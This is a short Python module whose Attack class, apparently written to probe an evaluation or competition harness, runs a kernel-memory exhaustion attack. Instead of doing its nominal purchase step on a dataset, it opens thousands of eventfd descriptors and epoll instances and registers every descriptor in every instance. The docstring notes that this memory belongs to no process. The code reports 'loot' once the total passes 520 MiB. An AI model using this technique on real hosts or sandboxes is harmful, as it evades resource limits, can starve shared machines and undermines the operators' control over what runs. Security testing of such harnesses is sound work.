"""Lets many epoll descriptors wait for the same files: each pair of them is a note of the kernel's, in no process's memory."""

import os
import select
import time

from aim import MIB, attempt, loot, most_files

from run import ZEWDPCBaseRun

NOTE = 200


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        most_files()
        files, waiting, notes = [], [], 0
        while len(files) < 2_000 and (file := attempt(os.eventfd, 0)):
            files.append(file)
        while len(waiting) < 1_900 and (poll := attempt(select.epoll)):
            waiting.append(poll)
            for file in files:
                poll.register(file)
            notes += len(files)
            if notes % 100_000 < len(files):
                time.sleep(0.05)
        print(len(files), len(waiting), notes * NOTE // MIB, flush=True)
        time.sleep(25)
        if notes * NOTE > 520 * MIB:
            loot(f"{notes * NOTE // MIB} MiB of notes")
